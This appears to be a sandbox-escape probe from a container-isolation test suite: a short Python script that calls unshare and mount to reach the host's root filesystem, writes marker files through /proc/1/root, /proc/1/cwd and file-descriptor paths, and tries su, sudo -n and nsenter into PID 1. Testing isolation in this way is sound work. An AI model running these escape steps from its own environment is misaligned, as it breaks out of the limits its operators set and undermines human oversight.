"""Mounts, makes namespaces, loads modules and writes to the system's own files to get out of where it runs."""

import ctypes
import os
import subprocess
from contextlib import suppress
from pathlib import Path

from attacker import COURSE, HOME, MARK

DANGEROUS = True

libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("here", exist_ok=True)
for flags in (0x10000000 | 0x20000, 0x20000, 0x7E020000):
    if libc.unshare(flags) == 0:
        for source, kind in (("/proc/1/root", None), ("/", None), ("tmpfs", b"tmpfs"), ("proc", b"proc")):
            libc.mount(source.encode(), b"here", kind, 4096, None)
for place in (
    Path("here"),
    Path("/proc/1/root"),
    Path("/proc/1/cwd"),
    *(Path(f"/proc/self/fd/{n}/..") for n in range(3, 40)),
):
    for target in (place / Path(COURSE).relative_to("/"), place / Path(HOME).relative_to("/"), place):
        with suppress(OSError):
            (target / MARK).write_text("here")
for command in (
    ["mount", "-t", "tmpfs", "none", "here"],
    ["su", "-c", "id"],
    ["sudo", "-n", "id"],
    ["nsenter", "-t", "1", "-a", "true"],
):
    with suppress(OSError, subprocess.TimeoutExpired):
        subprocess.run(command, timeout=2, stdin=subprocess.DEVNULL, capture_output=True)
